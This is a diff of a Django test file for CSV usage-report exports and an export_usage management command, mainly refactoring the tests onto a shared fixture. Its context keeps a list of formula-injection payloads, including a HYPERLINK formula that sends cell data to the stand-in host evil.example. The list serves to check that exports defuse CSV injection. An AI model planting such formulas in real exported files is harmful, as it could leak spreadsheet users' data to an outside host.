@@ -1,4 +1,5 @@
-"""CSV exports (reports/exports.py, the export views, manage.py export_usage): C1-C5, provenance."""
+"""CSV exports (reports/spend/exports.py, the export views, manage.py export_usage): C1-C5,
+provenance."""
 
 from __future__ import annotations
 
@@ -32,17 +33,16 @@ from reports.spend.usage import rows_from_buckets
 from tests.factories import (
     make_bucket_file,
     make_connection,
+    make_daily_buckets,
     make_done_bucket,
     make_done_report,
-    make_team,
     make_user,
-    share_with,
     usage,
 )
 from tests.support import figures
+from tests.support.world import World
 
 JAN = datetime(2026, 1, 1, tzinfo=UTC)
-APR = datetime(2026, 4, 1, tzinfo=UTC)
 FORMULA_PAYLOADS = [
     "=1+1",
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
@@ -156,20 +156,18 @@ def test_unfinished_buckets_are_not_exported() -> None:
     assert [r["period_start"] for r in rows] == ["2026-02-01T00:00:00Z", "2026-03-01T00:00:00Z"]
 
 
-@pytest.mark.django_db
-def test_team_csv_has_member_and_connection_columns() -> None:
-    admin, member = make_user("ann"), make_user("ben")
-    team = make_team(admins=[admin], members=[member])
-    conns = [make_connection(admin, "A1"), make_connection(member, "B1")]
-    share_with(team, *conns)
-    report = make_done_report(admin, conns, team=team)
+def test_team_csv_has_member_and_connection_columns(world: World) -> None:
+    team, report = world.team, world.team_report  # the admin's and the owner's connection
     response, rows = download(
-        client_for(admin), reverse("team_report_export_csv", args=[team.pk, report.pk])
+        client_for(world.team_admin), reverse("team_report_export_csv", args=[team.pk, report.pk])
     )
     filename = f"osai-usage-team-{team.pk}-report-{report.pk}-2026-01-01-2026-04-01.csv"
     assert response["Content-Disposition"] == f'attachment; filename="{filename}"'
     assert list(rows[0]) == exports.export_columns(team=True, with_cost=True)
-    assert [(r["member"], r["connection"]) for r in rows[:2]] == [("ann", "A1"), ("ben", "B1")]
+    assert [(r["member"], r["connection"]) for r in rows[:2]] == [
+        ("admin", "Admin lab"),
+        ("owner", "Main"),
+    ]
     assert len(rows) == 6
 
 
@@ -323,19 +321,12 @@ def test_commas_quotes_newlines_and_non_ascii_survive_the_download() -> None:
 def test_export_query_count_does_not_grow_with_buckets(django_assert_num_queries: Any) -> None:
     owner = make_user()
     conn = make_connection(owner)
-    small = make_done_report(
-        owner,
-        [conn],
-        granularity="day",
-        start=datetime(2025, 1, 1, tzinfo=UTC),
-        end=datetime(2025, 1, 6, tzinfo=UTC),
-    )
-    big = make_done_report(
-        owner,
-        [conn],
-        granularity="day",
-        start=datetime(2025, 2, 1, tzinfo=UTC),
-        end=datetime(2025, 8, 20, tzinfo=UTC),
+    small, big = (
+        make_done_report(owner, [conn], granularity="day", start=start, end=end)
+        for start, end in (
+            (datetime(2025, 1, 1, tzinfo=UTC), datetime(2025, 1, 6, tzinfo=UTC)),  # 5 days
+            (datetime(2025, 2, 1, tzinfo=UTC), datetime(2025, 8, 20, tzinfo=UTC)),  # 200 days
+        )
     )
     assert (small.buckets.count(), big.buckets.count()) == (5, 200)
     client = client_for(owner)
@@ -367,20 +358,7 @@ def _bulk_report(owner: Any, days: int) -> Report:
     report = Report.objects.create(
         owner=owner, period_start=start, period_end=start + timedelta(days=days), granularity="day"
     )
-    values = usage(1)
-    buckets = Bucket.objects.bulk_create(
-        Bucket(
-            connection=conn,
-            period_start=start + timedelta(days=i),
-            period_end=start + timedelta(days=i + 1),
-            is_closed=True,
-            state=Bucket.State.DONE,
-            osai_report_id=i,
-            osai_creation_time_raw="x",
-            **values,
-        )
-        for i in range(days)
-    )
+    buckets = make_daily_buckets(conn, start, days, **usage(1))
     ReportBucket.objects.bulk_create(ReportBucket(report=report, bucket=b) for b in buckets)
     return report
 
@@ -476,61 +454,51 @@ def test_no_token_jwt_or_signed_url_in_any_csv() -> None:
 # --- manage.py export_usage -------------------------------------------------------------------
 
 
-@pytest.fixture
-def cli_world(db: Any) -> dict[str, Any]:
-    admin, member = make_user("ann"), make_user("ben")
-    team = make_team("Vision", admins=[admin], members=[member])
-    conns = [make_connection(admin, "A1"), make_connection(member, "B1")]
-    share_with(team, *conns)
-    report = make_done_report(admin, conns, team=team)
-    return {"admin": admin, "member": member, "team": team, "conns": conns, "report": report}
-
-
 def run_export(**options: Any) -> tuple[list[dict[str, str]], str]:
     out, err = io.StringIO(), io.StringIO()
     call_command("export_usage", stdout=out, stderr=err, **options)
     return list(csv.DictReader(io.StringIO(out.getvalue(), newline=""))), err.getvalue()
 
 
-def test_cli_exports_a_users_buckets_without_cost_by_default(cli_world: dict[str, Any]) -> None:
+def test_cli_exports_a_users_buckets_without_cost_by_default(world: World) -> None:
     rows, _ = run_export(
-        user="ben", date_from="2026-01-01", date_to="2026-04-01", granularity="month"
+        user="owner", date_from="2026-01-01", date_to="2026-04-01", granularity="month"
     )
     assert list(rows[0]) == exports.export_columns(team=False, with_cost=False)
     assert [(r["connection"], r["period_start"]) for r in rows] == [
-        ("B1", "2026-01-01T00:00:00Z"),
-        ("B1", "2026-02-01T00:00:00Z"),
-        ("B1", "2026-03-01T00:00:00Z"),
+        ("Main", "2026-01-01T00:00:00Z"),
+        ("Main", "2026-02-01T00:00:00Z"),
+        ("Main", "2026-03-01T00:00:00Z"),
     ]
 
 
-def test_cli_team_export_with_cost_matches_the_web_export(cli_world: dict[str, Any]) -> None:
-    w = cli_world
+def test_cli_team_export_with_cost_matches_the_web_export(world: World) -> None:
+    w = world
     rows, _ = run_export(team="Vision", date_from="2026-01-01", date_to="2026-04-01", cost=True)
     assert list(rows[0]) == exports.export_columns(team=True, with_cost=True)
     _, web = download(
-        client_for(w["admin"]),
-        reverse("team_report_export_csv", args=[w["team"].pk, w["report"].pk]),
+        client_for(w.team_admin),
+        reverse("team_report_export_csv", args=[w.team.pk, w.team_report.pk]),
     )
     assert rows == web
-    assert formatting.to_cents(csv_total(rows)) == formatting.to_cents(page_total(w["report"]))
+    assert formatting.to_cents(csv_total(rows)) == formatting.to_cents(page_total(w.team_report))
 
 
-def test_cli_connection_filter_and_price_book_option(cli_world: dict[str, Any]) -> None:
+def test_cli_connection_filter_and_price_book_option(world: World) -> None:
     rows, _ = run_export(
-        user="ann",
-        connection=["A1"],
+        user="admin",
+        connection=["Admin lab"],
         date_from="2026-02-01",
         date_to="2026-03-01",
         cost=True,
         price_book="Example price book",
     )
-    assert [r["connection"] for r in rows] == ["A1"]
+    assert [r["connection"] for r in rows] == ["Admin lab"]
     with pytest.raises(CommandError, match="no connection"):
-        run_export(user="ann", connection=["Nope"], date_from="2026-02-01", date_to="2026-03-01")
+        run_export(user="admin", connection=["Nope"], date_from="2026-02-01", date_to="2026-03-01")
     with pytest.raises(CommandError, match="No price book"):
         run_export(
-            user="ann",
+            user="admin",
             date_from="2026-02-01",
             date_to="2026-03-01",
             cost=True,
@@ -538,11 +506,11 @@ def test_cli_connection_filter_and_price_book_option(cli_world: dict[str, Any]) 
         )
     PriceBook.objects.update(is_default=False)
     with pytest.raises(CommandError, match="No default price book"):
-        run_export(user="ann", date_from="2026-02-01", date_to="2026-03-01", cost=True)
+        run_export(user="admin", date_from="2026-02-01", date_to="2026-03-01", cost=True)
 
 
 def test_cli_reports_missing_buckets_and_exits_non_zero(
-    cli_world: dict[str, Any], monkeypatch: pytest.MonkeyPatch
+    world: World, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     from reports.pipeline import connections
 
@@ -551,28 +519,31 @@ def test_cli_reports_missing_buckets_and_exits_non_zero(
 
     monkeypatch.setattr(connections, "osai_client_for", no_osai)
     out, err = io.StringIO(), io.StringIO()
-    with pytest.raises(CommandError, match="2 of 8 buckets are not finished"):
+    # September 2025 is missing for both connections, and Oct-Dec for the admin's (the
+    # owner's personal report has them for "Main").
+    with pytest.raises(CommandError, match="5 of 14 buckets are not finished"):
         call_command(
             "export_usage",
             team="Vision",
-            date_from="2025-12-01",
+            date_from="2025-09-01",
             date_to="2026-04-01",
             stdout=out,
             stderr=err,
         )
     assert out.getvalue() == ""  # nothing half-written
     message = err.getvalue()
-    assert "ann / A1: 2025-12-01T00:00:00Z .. 2026-01-01T00:00:00Z" in message
-    assert "ben / B1: 2025-12-01T00:00:00Z" in message
+    assert "admin / Admin lab: 2025-12-01T00:00:00Z .. 2026-01-01T00:00:00Z" in message
+    assert "owner / Main: 2025-09-01T00:00:00Z .. 2025-10-01T00:00:00Z" in message
+    assert "owner / Main: 2025-10-01T00:00:00Z" not in message  # finished
     assert (
-        "python manage.py generate_report --user ann --connection A1 --from 2025-12-01 "
-        "--to 2026-04-01 --granularity month"
+        "python manage.py generate_report --user admin --connection 'Admin lab' "
+        "--from 2025-09-01 --to 2026-04-01 --granularity month"
     ) in message
     assert "--wait" in message
 
 
-def test_cli_flags_select_buckets_of_exactly_those_categories(cli_world: dict[str, Any]) -> None:
+def test_cli_flags_select_buckets_of_exactly_those_categories(world: World) -> None:
     with pytest.raises(CommandError, match="not finished"):
-        run_export(user="ann", date_from="2026-01-01", date_to="2026-02-01", flags="models")
+        run_export(user="admin", date_from="2026-01-01", date_to="2026-02-01", flags="models")
     with pytest.raises(CommandError, match="Unknown flags"):
-        run_export(user="ann", date_from="2026-01-01", date_to="2026-02-01", flags="gpus")
+        run_export(user="admin", date_from="2026-01-01", date_to="2026-02-01", flags="gpus")
